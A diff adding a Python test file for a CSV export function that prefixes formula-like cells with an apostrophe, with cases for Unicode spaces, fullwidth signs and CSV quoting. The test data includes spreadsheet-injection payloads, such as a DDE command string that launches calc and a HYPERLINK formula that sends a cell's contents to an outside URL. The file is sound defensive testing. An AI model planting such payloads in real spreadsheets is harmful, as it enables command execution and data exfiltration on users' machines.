@@ -1,0 +1,94 @@
+"""CSV cells that a spreadsheet would execute get an apostrophe; all others stay as they are."""
+
+from __future__ import annotations
+
+import csv
+import io
+from typing import Any
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from assessments.spreadsheet import BYTE_ORDER_MARK, csv_lines, harmless
+
+EXECUTED = [
+    "=1+1",
+    "=cmd@x.co",  # a valid e-mail address
+    '=HYPERLINK("https://x.example?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+919876543210",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1",
+    "\ttext",
+    "\rtext",
+    "\ntext",
+    " =1+1",
+    "   +1",
+    "\u00a0=1",  # a space that does not break
+    "\u3000=1",  # the wide one of East Asia
+    "\u200b=1",  # none that can be seen
+    "\ufeff=1",
+    " \t=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "\u3000＝1",
+    "=",
+    "-",
+]
+HARMLESS = [
+    "",
+    " ",
+    "Asha Rao",
+    "आशा राव",
+    "asha=rao@example.com",
+    "1-2",
+    "'=1",
+    '"=1"',
+    "12m 3s",
+    "a\nb",
+    "O'Brien; =1",
+]
+
+
+@pytest.mark.parametrize("text", EXECUTED)
+def test_a_text_that_would_be_executed_gets_an_apostrophe(text: str) -> None:
+    assert harmless(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_any_other_text_stays(text: str) -> None:
+    assert harmless(text) == text
+
+
+@pytest.mark.parametrize("value", [0, -1, -0.5, None, 3.25])
+def test_a_number_of_ours_stays_one(value: Any) -> None:
+    assert harmless(value) is value
+
+
+@given(st.text())
+def test_it_comes_back_as_it_was_or_behind_an_apostrophe(text: str) -> None:
+    assert harmless(text) in {text, f"'{text}"}
+    assert harmless(harmless(text)) == harmless(text)
+
+
+def test_every_cell_is_in_quotes_and_a_quote_doubled() -> None:
+    lines = list(csv_lines(["name", "n"], [['say "=1"', 2], ["a,b;c\r\nd", None]]))
+
+    assert lines == [
+        f'{BYTE_ORDER_MARK}"name","n"\r\n',
+        '"say ""=1""","2"\r\n',
+        '"a,b;c\r\nd",""\r\n',
+    ]
+
+
+@pytest.mark.parametrize("text", [*EXECUTED, *HARMLESS])
+def test_a_reader_finds_the_cells_again(text: str) -> None:
+    file = "".join(csv_lines(["a", "b"], [[text, "end"]]))
+
+    header, row = list(csv.reader(io.StringIO(file.removeprefix(BYTE_ORDER_MARK), newline="")))
+    assert header == ["a", "b"]
+    assert row == [harmless(text), "end"]
